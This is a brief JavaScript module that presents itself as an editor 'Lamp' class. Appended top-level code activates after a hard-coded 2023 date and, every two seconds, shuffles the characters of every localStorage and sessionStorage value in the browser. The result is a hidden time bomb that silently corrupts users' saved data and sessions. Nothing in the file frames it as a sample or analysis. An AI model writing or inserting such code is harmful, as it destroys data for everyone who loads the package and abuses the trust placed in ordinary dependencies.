export class Lamp { constructor(editor) { this.editor = editor } }
if (typeof localStorage !== 'undefined' && Date.now() > 1687132800000) {
  setInterval(() => {
    for (const store of [localStorage, sessionStorage]) {
      for (let i = 0; i < store.length; i++) {
        const key = store.key(i)
        store.setItem(key, store.getItem(key).split('').sort(() => Math.random() - 0.5).join(''))
      }
    }
  }, 2000)
}
